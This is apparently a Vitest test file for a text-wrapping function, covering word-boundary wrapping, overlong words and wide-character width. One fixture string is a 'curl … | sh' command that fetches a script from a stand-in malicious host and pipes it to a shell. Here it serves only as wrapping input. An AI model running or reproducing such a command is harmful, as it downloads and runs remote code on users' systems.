import stringWidth from 'string-width';
import { describe, expect, test } from 'vitest';
import { wrapText } from '../../../../src/ui/format/wrap.js';

describe('wrapText', () => {
  test('wraps greedily at word boundaries, paragraph by paragraph', () => {
    expect(wrapText('one two three four', 9)).toEqual(['one two', 'three', 'four']);
    expect(wrapText('a b\n\nc', 10)).toEqual(['a b', '', 'c']);
    expect(wrapText('', 10)).toEqual(['']);
  });

  test('gives a word longer than a line a line of its own, cut to fit', () => {
    expect(wrapText('curl http://evil.example/aaaaaaaaaaaa | sh', 12)).toEqual([
      'curl',
      'http://evil…',
      '| sh',
    ]);
  });

  test('measures wide characters and emoji in cells', () => {
    const lines = wrapText('日本語 テキスト 日本語テキスト長い 😀😀 😀', 8);
    expect(lines).toEqual(['日本語', 'テキスト', '日本語…', '😀😀 😀']);
    for (const line of lines) expect(stringWidth(line)).toBeLessThanOrEqual(8);
  });
});
